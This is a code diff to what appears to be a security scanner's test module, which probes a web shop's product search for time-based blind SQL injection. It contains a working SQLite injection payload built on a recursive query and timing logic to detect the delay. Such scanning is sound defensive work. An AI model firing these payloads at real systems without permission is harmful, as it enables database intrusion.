@@ -9,8 +9,8 @@ from ringfence.attack.client import query
 from ringfence.attack.plan import Attack, Payload
 from ringfence.attack.unproven import require
 
-#: How long the database is kept busy where it is asked to be, at least.
-_SECONDS: Final = 0.3
+#: How much longer the answer takes where the database is asked to be slow, at least.
+_SECONDS: Final = 0.2
 _COUNT: Final = (
     "zz' OR (SELECT count(*) FROM (WITH RECURSIVE n(i) AS "
     "(SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT {}) SELECT i FROM n)) < 0--"
@@ -29,7 +29,7 @@ class SqlInFreeText(Attack):
         self.sqlite = self.ground.shop.database == "sqlite"
 
     async def twin(self) -> None:
-        for words, expected in (("violet", "Violet teapot"), ("B flat", "Copper kettle")):
+        for words, expected in (("Violet", "Violet teapot"), ("B flat", "Copper kettle")):
             found = await self._search(words)
             require(found.ok and found.holds(expected), f"{words} is not found: {found.status}")
         missing = await self._search("select tea or union")
@@ -60,11 +60,11 @@ class SqlInFreeText(Attack):
         return found.ok and bool(found.json()["items"])
 
     async def _waits(self) -> bool:
-        soon, late = (1, 3_000_000) if self.sqlite else (0, 0.2)
+        soon, late = (1, 3_000_000) if self.sqlite else (0, 0.3)
         asked = _COUNT if self.sqlite else _SLEEP
         quick = await self._search(asked.format(soon))
         slow = await self._search(asked.format(late))
-        return quick.ok and slow.ok and slow.seconds > max(_SECONDS, 3 * quick.seconds)
+        return quick.ok and slow.ok and slow.seconds - quick.seconds > _SECONDS
 
     async def _search(self, words: str) -> Answer:
         return await self.ground.send("GET", "/products" + query(q=words))
